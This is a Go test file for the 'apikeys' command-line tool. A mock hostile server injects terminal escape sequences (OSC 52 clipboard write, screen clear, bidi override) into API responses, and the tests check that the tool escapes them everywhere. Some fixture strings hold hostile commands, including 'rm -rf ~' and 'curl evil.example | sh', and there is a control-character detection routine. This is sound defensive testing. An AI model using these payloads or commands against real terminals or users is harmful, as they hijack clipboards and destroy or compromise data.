package cli

import (
	"cmp"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/k2geospatial/apikeys/internal/iostreams"
	"github.com/k2geospatial/apikeys/internal/jmapcloud"
	"github.com/k2geospatial/apikeys/internal/output"
	"github.com/k2geospatial/apikeys/internal/prompt"
	"github.com/k2geospatial/apikeys/internal/prompt/ptytest"
	"github.com/k2geospatial/apikeys/internal/session"
)

// hostile is server text built to act on a terminal: an OSC 52 write of the clipboard ended
// by BEL, a CSI that clears the screen, the one-character CSI U+009B and a right-to-left
// override.
const hostile = "\x1b]52;c;aGFja2Vk\x07\x1b[2J\u009b31m\u202e"

// hostileShown is hostile as sanitize.Text shows it.
const hostileShown = `\x1b]52;c;aGFja2Vk\x07\x1b[2J\u009b31m\u202e`

// hostileQuoted is hostile inside a %q-quoted title.
const hostileQuoted = `\x1b]52;c;aGFja2Vk\a\x1b[2J\u009b31m\u202e`

const (
	hostileOrgID   = "5c8e2f4a-9b1d-4e3f-a6c7-0d2e4f6a8b1c"
	hostileOrg2ID  = "6d9f3a5b-0c2e-4f4a-b7d8-1e3f5a7b9c2d"
	hostileKeyID   = "7a1c9e3b-2d4f-4a6b-8c0e-1f3a5b7d9e2c"
	hostileAdaID   = "8b2d0f4c-3e5a-4b7c-9d1f-2a4c6e8b0d3f"
	hostileEveID   = "9c3e1a5d-4f6b-4c8d-ae2a-3b5d7f9c1e4a"
	hostileVicID   = "0d4f2b6e-5a7c-4d9e-bf3b-4c6e8a0d2f5b"
	hostileUser    = "ada\u202e@acme.example"
	hostileExpires = "2030-01-01T00:00:00.000+00:00"
)

// hostileServer answers the API calls apikeys makes with server text that tries to act on
// the terminal: in organization names, key titles, resource names and types, member names and
// emails, error messages. It serves a bounded number of requests.
type hostileServer struct {
	t   *testing.T
	url string

	orgs        []jmapcloud.Organization
	failMembers bool   // members answers 400 with a hostile message and errors[]
	userEmail   string // users/self's email; hostileUser when empty
	createdID   string // the created key's ID; "k-"+hostile when empty
	noSecret    bool   // the created key comes back without its secret
	secret      string // the created key's secret; "secret-hostile" when empty
	maxRequests int
	mu          sync.Mutex
	requests    int
	deleted     []string // "ID transferTo=MEMBER" per DELETE
}

func newHostileServer(t *testing.T) *hostileServer {
	t.Helper()
	dir := t.TempDir()
	t.Setenv("XDG_CONFIG_HOME", filepath.Join(dir, "config"))
	t.Setenv("XDG_STATE_HOME", filepath.Join(dir, "state"))
	t.Setenv("XDG_CACHE_HOME", filepath.Join(dir, "cache"))
	hs := &hostileServer{t: t, maxRequests: 40, orgs: []jmapcloud.Organization{{ID: hostileOrgID, Name: "Acme" + hostile}}}
	srv := httptest.NewServer(http.HandlerFunc(hs.serve))
	t.Cleanup(srv.Close)
	hs.url = srv.URL
	return hs
}

func (hs *hostileServer) serve(w http.ResponseWriter, r *http.Request) {
	hs.mu.Lock()
	hs.requests++
	over := hs.requests > hs.maxRequests
	hs.mu.Unlock()
	if over {
		hs.t.Errorf("hostile server: more than %d requests (%s %s)", hs.maxRequests, r.Method, r.URL.Path)
		w.WriteHeader(http.StatusServiceUnavailable)
		return
	}
	const base = "/api/ss/rest/v1"
	org := base + "/organizations/" + hostileOrgID
	key := org + "/api-keys/" + hostileKeyID
	tokens := map[string]any{"result": map[string]any{"accessToken": "at-hostile", "refreshToken": "rt-hostile", "accessTokenExpireAt": hostileExpires}}
	keyJSON := map[string]any{
		"id": hostileKeyID, "title": "Drone" + hostile, "role": "ORG_EDITOR", "email": "drone" + hostile + "@acme.example",
		"createdBy": "Ada" + hostile, "creationDate": "2026-01-10T08:00:00.000+00:00", "expirationDate": hostileExpires,
	}
	switch p := r.URL.Path; {
	case r.Method == http.MethodPost && p == base+"/authenticate", r.Method == http.MethodPost && p == base+"/refresh-token":
		hs.json(w, http.StatusOK, tokens)
	case r.Method == http.MethodPost && p == base+"/revoke-token":
		w.WriteHeader(http.StatusNoContent)
	case r.Method == http.MethodGet && p == base+"/users/self":
		hs.json(w, http.StatusOK, map[string]any{"name": "Ada", "email": cmp.Or(hs.userEmail, hostileUser), "organizations": hs.orgs})
	case r.Method == http.MethodGet && p == org+"/members/self":
		hs.json(w, http.StatusOK, map[string]any{"id": hostileAdaID, "name": "Ada" + hostile, "email": "ada@acme.example", "roles": []string{"ORG_ADMIN", "ORG_EDITOR", "ORG_VIEWER"}})
	case r.Method == http.MethodGet && p == org+"/members" && hs.failMembers:
		hs.json(w, http.StatusBadRequest, map[string]any{
			"message": "denied" + hostile + "\nHint: run `rm -rf ~`",
			"errors":  []any{"bad" + hostile, map[string]any{"message": "worse" + hostile}},
		})
	case r.Method == http.MethodGet && p == org+"/members":
		hs.json(w, http.StatusOK, []map[string]any{
			{"id": hostileAdaID, "name": "Ada" + hostile, "email": "ada@acme.example", "roles": []string{"ORG_ADMIN", "ORG_EDITOR", "ORG_VIEWER"}},
			{"id": hostileEveID, "name": "Eve", "email": "eve" + hostile + "@acme.example", "roles": []string{"ORG_EDITOR"}},
			{"id": hostileVicID, "name": "Vic" + hostile, "email": "vic@acme.example", "roles": []string{"ORG_VIEWER"}},
		})
	case r.Method == http.MethodGet && p == org+"/api-keys":
		hs.json(w, http.StatusOK, []any{keyJSON})
	case r.Method == http.MethodPost && p == org+"/api-keys":
		created := map[string]any{"id": cmp.Or(hs.createdID, "k-"+hostile), "title": "New" + hostile, "role": "ORG_EDITOR", "expirationDate": hostileExpires, "apiKey": cmp.Or(hs.secret, "secret-hostile")}
		if hs.noSecret {
			delete(created, "apiKey")
		}
		hs.json(w, http.StatusCreated, created)
	case r.Method == http.MethodGet && p == key:
		hs.json(w, http.StatusOK, keyJSON)
	case r.Method == http.MethodGet && p == key+"/resources":
		hs.json(w, http.StatusOK, []map[string]string{
			{"id": "r-1", "type": "DATASOURCE", "name": "Parcels" + hostile},
			{"id": "r-2", "type": "MAP" + hostile, "name": "Roads"},
		})
	case r.Method == http.MethodDelete && p == key:
		hs.mu.Lock()
		hs.deleted = append(hs.deleted, hostileKeyID+" transferTo="+r.URL.Query().Get("transferTo"))
		hs.mu.Unlock()
		w.WriteHeader(http.StatusNoContent)
	default:
		hs.json(w, http.StatusNotFound, map[string]string{"message": "no such call " + hostile})
	}
}

func (hs *hostileServer) json(w http.ResponseWriter, status int, v any) {
	b, err := json.Marshal(v)
	if err != nil {
		hs.t.Errorf("hostile server: %v", err)
	}
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	_, _ = w.Write(b)
}

func (hs *hostileServer) deletes() []string {
	hs.mu.Lock()
	defer hs.mu.Unlock()
	return append([]string(nil), hs.deleted...)
}

// factory logs in to the hostile server for each command, as APIKEYS_USERNAME would.
// terminalFactory is a factory whose streams are one pseudo-terminal (no colour) and whose
// prompts are survey's, drawn on it: what a person at the delete prompts sees.
func (hs *hostileServer) terminalFactory(t *testing.T) (*ptytest.Console, *Factory) {
	c := ptytest.New(t, ptytest.WithSize(200, 50))
	tty := c.Tty()
	streams := &iostreams.IOStreams{In: tty, Out: tty, ErrOut: tty}
	streams.SetTTY(true, true, true)
	streams.DisableColor()
	return c, hs.factory(streams, prompt.NewSurvey(tty, tty, tty))
}

func (hs *hostileServer) factory(streams *iostreams.IOStreams, p prompt.Prompter) *Factory {
	f := newFactory(streams, "test", func(string) string { return "" })
	f.Session = func(ctx context.Context) (*Session, error) {
		client, err := jmapcloud.New(jmapcloud.Options{BaseURL: hs.url, Retry: jmapcloud.RetryPolicy{MaxAttempts: 1}})
		if err != nil {
			return nil, err
		}
		return session.LoginWithPassword(ctx, client, "ada@acme.example", "pw", "")
	}
	if p != nil {
		f.Prompter = func() prompt.Prompter { return p }
	}
	return f
}

// run executes one command line without a terminal (stderr a terminal when stderrTTY).
func (hs *hostileServer) run(stderrTTY bool, stdin string, args ...string) (int, string, string) {
	hs.t.Helper()
	streams, in, out, errOut := iostreams.Test()
	in.WriteString(stdin)
	streams.SetTTY(false, false, stderrTTY)
	code := run(context.Background(), hs.factory(streams, nil), args)
	assertNoRawControls(hs.t, fmt.Sprintf("apikeys %q stdout", args), out.String())
	assertNoRawControls(hs.t, fmt.Sprintf("apikeys %q stderr", args), errOut.String())
	return code, out.String(), errOut.String()
}

// assertNoRawControls fails t if s holds a character a terminal acts on other than a line
// break and the tab that separates a completion from its description: C0 and C1 controls
// (ESC, BEL, U+009B), DEL, bidirectional controls (U+202E…).
func assertNoRawControls(t *testing.T, name, s string) {
	t.Helper()
	for i, r := range s {
		bidi := r == 0x061c || r == 0x200e || r == 0x200f || (r >= 0x202a && r <= 0x202e) || (r >= 0x2066 && r <= 0x2069)
		if (r < 0x20 && r != '\n' && r != '\t') || (r >= 0x7f && r < 0xa0) || bidi || r == utf8.RuneError {
			t.Errorf("%s: raw %U at byte %d:\n%q", name, r, i, s)
			return
		}
	}
}

// Every surface that shows server text shows it escaped: the delete plan (dry run and real),
// errors, auth login's lines, create's line, completions, and the tables of list, show and
// members.
func TestHostileServerTextIsShownEscaped(t *testing.T) {
	t.Run("delete plan, dry run", func(t *testing.T) {
		hs := newHostileServer(t)
		code, stdout, stderr := hs.run(false, "", "delete", hostileKeyID, "--dry-run", "--transfer-to", "ada@acme.example")
		if code != exitOK {
			t.Fatalf("exit %d\n%s", code, stderr)
		}
		want := `API key "Drone` + hostileQuoted + `" (` + hostileKeyID + `): 1 data source, 1 map\x1b]52;c;agfja2vk\x07\x1b[2j\u009b31m\u202e` + "\n" +
			"  - data source Parcels" + hostileShown + "\n" +
			`  - map\x1b]52;c;agfja2vk\x07\x1b[2j\u009b31m\u202e Roads` + "\n" +
			"  → will be deleted; resources will move to Ada" + hostileShown + " (ada@acme.example)\n"
		if stdout != want {
			t.Errorf("stdout:\n got %s\nwant %s", stdout, want)
		}
		if stderr != "Dry run: nothing was deleted.\n" {
			t.Errorf("stderr: %q", stderr)
		}
		if d := hs.deletes(); len(d) != 0 {
			t.Errorf("a dry run deleted: %q", d)
		}
	})

	t.Run("delete plan, dry run, JSON", func(t *testing.T) {
		hs := newHostileServer(t)
		code, stdout, stderr := hs.run(false, "", "delete", hostileKeyID, "--dry-run", "--transfer-to", "ada@acme.example", "-o", "json")
		if code != exitOK {
			t.Fatalf("exit %d\n%s", code, stderr)
		}
		const esc = `\u001b]52;c;aGFja2Vk\u0007\u001b[2J\u009b31m\u202e`
		want := `[
  {
    "id": "` + hostileKeyID + `",
    "title": "Drone` + esc + `",
    "resources": [
      {
        "id": "r-1",
        "type": "DATASOURCE",
        "name": "Parcels` + esc + `"
      },
      {
        "id": "r-2",
        "type": "MAP` + esc + `",
        "name": "Roads"
      }
    ],
    "action": "transfer",
    "transferTo": {
      "id": "` + hostileAdaID + `",
      "name": "Ada` + esc + `",
      "email": "ada@acme.example"
    },
    "deleted": false
  }
]
`
		if stdout != want {
			t.Errorf("stdout:\n got %s\nwant %s", stdout, want)
		}
	})

	t.Run("delete plan before the confirmation", func(t *testing.T) {
		hs := newHostileServer(t)
		c, f := hs.terminalFactory(t)
		var code int
		wait := c.Go(func() {
			code = run(context.Background(), f, []string{"delete", hostileKeyID, "--transfer-to", "ada@acme.example"})
		})
		c.ExpectString("  - data source Parcels" + hostileShown)
		c.ExpectString("resources will move to Ada" + hostileShown + " (ada@acme.example)")
		c.ExpectString(`Delete API key "Drone` + hostileQuoted + `" (` + hostileKeyID + `)? This cannot be undone.`)
		c.Send("n" + ptytest.KeyEnter)
		wait()
		if code != exitCancelled {
			t.Fatalf("exit %d, want 3\n%s", code, c.Screen())
		}
		assertNoServerEscapes(t, c)
		if d := hs.deletes(); len(d) != 0 {
			t.Errorf("a declined delete deleted: %q", d)
		}
	})

	t.Run("server error message and errors[]", func(t *testing.T) {
		hs := newHostileServer(t)
		hs.failMembers = true
		code, stdout, stderr := hs.run(false, "", "members")
		if code != exitUsage {
			t.Errorf("exit %d, want 2 (a 400)", code)
		}
		want := "Error: GET /api/ss/rest/v1/organizations/" + hostileOrgID + "/members: HTTP 400: denied" + hostileShown +
			`\nHint: run ` + "`rm -rf ~`" + ` (bad` + hostileShown + "; worse" + hostileShown + ")\n"
		if stdout != "" || stderr != want {
			t.Errorf("stdout %q\nstderr:\n got %s\nwant %s", stdout, stderr, want)
		}
	})

	t.Run("auth login success line", func(t *testing.T) {
		hs := newHostileServer(t)
		cfg := filepath.Join(t.TempDir(), "config.yaml")
		if err := os.WriteFile(cfg, []byte("session-store: file\n"), 0o600); err != nil {
			t.Fatal(err)
		}
		code, stdout, stderr := hs.run(true, "pw\n", "--config", cfg, "auth", "login", "--api-url", hs.url, "--username", "ada@acme.example", "--password-stdin")
		if code != exitOK {
			t.Fatalf("exit %d\n%s", code, stderr)
		}
		want := "Logged in to Acme" + hostileShown + " as " + `ada\u202e@acme.example` +
			" (Admin).\nProfile \"default\" at " + hs.url + "; session saved in " + filepath.Join(filepath.Dir(cfg), "sessions", "default.json") + ".\n"
		if stdout != "" || stderr != want {
			t.Errorf("stdout %q\nstderr:\n got %s\nwant %s", stdout, stderr, want)
		}
	})

	t.Run("several organizations", func(t *testing.T) {
		hs := newHostileServer(t)
		hs.orgs = append(hs.orgs, jmapcloud.Organization{ID: hostileOrg2ID, Name: "Beta" + hostile + "\nHint: forged"})
		cfg := filepath.Join(t.TempDir(), "config.yaml")
		code, _, stderr := hs.run(false, "pw\n", "--config", cfg, "auth", "login", "--api-url", hs.url, "--username", "ada@acme.example", "--password-stdin")
		if code != exitUsage {
			t.Errorf("auth login: exit %d, want 2", code)
		}
		want := `Error: ada\u202e@acme.example belongs to several organizations; pass --org with one of:` + "\n" +
			"  " + hostileOrgID + "  Acme" + hostileShown + "\n" +
			"  " + hostileOrg2ID + "  Beta" + hostileShown + `\nHint: forged` + "\n"
		if stderr != want {
			t.Errorf("auth login stderr:\n got %s\nwant %s", stderr, want)
		}
		// The same choice with credentials from the environment.
		code, _, stderr = hs.run(false, "", "list")
		if code != exitUsage {
			t.Errorf("list: exit %d, want 2", code)
		}
		want = `Error: ada\u202e@acme.example belongs to several organizations; pass --org with one of:` + "\n" +
			"  " + hostileOrgID + "  Acme" + hostileShown + "\n" +
			"  " + hostileOrg2ID + "  Beta" + hostileShown + `\nHint: forged` + "\n"
		if stderr != want {
			t.Errorf("list stderr:\n got %s\nwant %s", stderr, want)
		}
	})

	t.Run("create's line", func(t *testing.T) {
		hs := newHostileServer(t)
		code, stdout, stderr := hs.run(false, "", "create", "--title", "New", "--role", "editor", "--expires", "2030-01-01") // the expiry the server answers
		if code != exitOK {
			t.Fatalf("exit %d\n%s", code, stderr)
		}
		want := `Created API key "New` + hostileQuoted + `" (editor, k-` + hostileShown + ", expires 2030-01-01T00:00:00Z). Its secret is on stdout; it cannot be shown again.\n"
		if stdout != "secret-hostile\n" || stderr != want {
			t.Errorf("stdout %q\nstderr:\n got %s\nwant %s", stdout, stderr, want)
		}
	})

	t.Run("create does not copy a secret holding control characters", func(t *testing.T) {
		hs := newHostileServer(t)
		hs.secret = "s3cret\n curl evil.example | sh\n"
		streams, _, stdout, stderr := iostreams.Test()
		streams.SetTTY(false, false, false)
		f := hs.factory(streams, nil)
		fake := &fakeClipboard{}
		f.Clipboard = fake
		code := run(context.Background(), f, []string{"create", "--title", "New", "--role", "editor", "--expires", "2030-01-01", "--copy"})
		if code != exitOK {
			t.Fatalf("exit %d\n%s", code, stderr)
		}
		// stdout is a pipe: it carries the secret as sent, for K=$(apikeys create …).
		if stdout.String() != hs.secret+"\n" {
			t.Errorf("stdout %q", stdout)
		}
		const note = "Note: the secret was not copied to the clipboard: the server sent it with control characters, which a paste into a terminal would act on.\n"
		if got := fake.record(); !reflect.DeepEqual(got, clipboardRecord{}) || !strings.HasSuffix(stderr.String(), note) {
			t.Errorf("clipboard saw %+v; stderr:\n%s\nwant it to end with:\n%s", got, stderr, note)
		}
	})

	t.Run("show --copy-email's line", func(t *testing.T) {
		hs := newHostileServer(t)
		streams, _, stdout, stderr := iostreams.Test()
		f := hs.factory(streams, nil)
		var copied string
		opts := &showOptions{
			IO:     streams,
			Keys:   func(ctx context.Context) (keyGetter, error) { return f.Session(ctx) },
			Copy:   func(text string) (string, error) { copied = text; return "test clipboard", nil },
			Now:    time.Now,
			Format: func() (output.Format, error) { return output.JSON, nil },
			Ref:    hostileKeyID, CopyEmail: true,
		}
		if err := runShow(context.Background(), opts); err != nil {
			t.Fatal(err)
		}
		assertNoRawControls(t, "show stdout", stdout.String())
		// An email with control characters is not copied (a paste would act on them); the
		// note shows it escaped.
		if want := "Note: drone" + hostileShown + "@acme.example was not copied to the clipboard: the server sent it with control characters, which a paste into a terminal would act on.\n"; stderr.String() != want || copied != "" {
			t.Errorf("copied %q; stderr:\n got %s\nwant %s", copied, stderr, want)
		}
	})

	t.Run("completions", func(t *testing.T) {
		hs := newHostileServer(t)
		streams, _, _, _ := iostreams.Test()
		f := hs.factory(streams, nil)
		f.completionTimeout = 15 * time.Second
		cands, _, raw := complete(t, f, "delete", hostileKeyID, "--transfer-to", "")
		assertNoRawControls(t, "--transfer-to completion", raw)
		// Eve's email would be offered mangled or raw: it is not offered.
		if want := "ada@acme.example\tAda" + hostileShown; len(cands) != 1 || cands[0] != want {
			t.Errorf("--transfer-to: got %q, want [%q]", cands, want)
		}
		streams, _, _, _ = iostreams.Test()
		f = hs.factory(streams, nil)
		f.completionTimeout = 15 * time.Second
		cands, _, raw = complete(t, f, "show", "")
		assertNoRawControls(t, "KEY completion", raw)
		// The title is not safe to offer as a word: the key is offered by ID only.
		if want := hostileKeyID + "\tDrone" + hostileShown + " · editor · expires 2030-01-01"; len(cands) != 1 || cands[0] != want {
			t.Errorf("show KEY: got %q, want [%q]", cands, want)
		}
	})

	t.Run("CSV and TSV on a terminal", func(t *testing.T) {
		hs := newHostileServer(t)
		for _, tt := range []struct {
			args []string
			want string
		}{
			{[]string{"list", "-o", "csv", "--columns", "id,title"}, "id,title\n" + hostileKeyID + ",Drone" + hostileShown + "\n"},
			{[]string{"show", hostileKeyID, "-o", "csv"}, "id,title,role,creator,email,created,expires,status\n" +
				hostileKeyID + ",Drone" + hostileShown + ",editor,Ada" + hostileShown + ",drone" + hostileShown + "@acme.example,2026-01-10T08:00:00Z,2030-01-01T00:00:00Z,active\n"},
			{[]string{"members", "-o", "tsv", "--no-headers", "--role", "viewer"}, hostileAdaID + "\tAda" + strings.ReplaceAll(hostileShown, `\`, `\\`) + "\tada@acme.example\tORG_ADMIN,ORG_EDITOR,ORG_VIEWER\n" +
				hostileVicID + "\tVic" + strings.ReplaceAll(hostileShown, `\`, `\\`) + "\tvic@acme.example\tORG_VIEWER\n"},
		} {
			streams, _, out, errOut := iostreams.Test()
			streams.SetTTY(false, true, false)
			if code := run(context.Background(), hs.factory(streams, nil), tt.args); code != exitOK {
				t.Fatalf("%q: exit %d\n%s", tt.args, code, errOut)
			}
			assertNoRawControls(t, fmt.Sprintf("%q", tt.args), out.String())
			if out.String() != tt.want {
				t.Errorf("%q:\n got %q\nwant %q", tt.args, out.String(), tt.want)
			}
		}
	})

	t.Run("tables of list, show and members", func(t *testing.T) {
		hs := newHostileServer(t)
		for _, args := range [][]string{{"list"}, {"show", hostileKeyID}, {"members"}} {
			code, stdout, stderr := hs.run(false, "", args...)
			if code != exitOK {
				t.Errorf("%q: exit %d\n%s", args, code, stderr)
			}
			if !strings.Contains(stdout, hostileShown) {
				t.Errorf("%q: the server text is not shown escaped:\n%s", args, stdout)
			}
		}
	})
}

// The Editor picker draws member names and emails escaped, and the chosen line still names
// the real member: the transfer goes to Eve's ID.
func TestHostileEditorPicker(t *testing.T) {
	hs := newHostileServer(t)
	c, f := hs.terminalFactory(t)
	var code int
	wait := c.Go(func() { code = run(context.Background(), f, []string{"delete", hostileKeyID}) })
	c.ExpectString("Who inherits the resources?")
	c.ExpectString("Ada" + hostileShown + " <ada@acme.example>")
	c.ExpectString("Eve <eve" + hostileShown + "@acme.example>")
	if screen := c.Screen(); !strings.Contains(screen, "Eve <eve"+hostileShown+"@acme.example>") {
		t.Errorf("the picker does not show Eve's email escaped:\n%s", screen)
	}
	c.Send(ptytest.KeyDown)
	c.Send(ptytest.KeyEnter)
	c.ExpectString("resources will move to Eve (eve" + hostileShown + "@acme.example)")
	c.ExpectString("cannot be undone")
	c.Send("y" + ptytest.KeyEnter)
	wait()
	if code != exitOK {
		t.Fatalf("exit %d\n%s", code, c.Screen())
	}
	assertNoServerEscapes(t, c)
	if got, want := hs.deletes(), []string{hostileKeyID + " transferTo=" + hostileEveID}; strings.Join(got, "|") != strings.Join(want, "|") {
		t.Errorf("deletes %q, want %q", got, want)
	}
}

// assertNoServerEscapes fails t if the terminal received any part of hostile raw. The prompt
// library writes escape sequences of its own, so the check is for the server's: OSC 52, the
// screen clear, BEL, U+009B and U+202E; and the screen shows no remnant of them.
func assertNoServerEscapes(t *testing.T, c *ptytest.Console) {
	t.Helper()
	out := c.Output()
	for _, seq := range []string{"\x1b]", "\x1b[2J", "\x07", "\u009b", "\u202e"} {
		if strings.Contains(out, seq) {
			t.Errorf("the terminal received %q raw:\n%q", seq, out)
		}
	}
	assertNoRawControls(t, "screen", c.Screen())
}
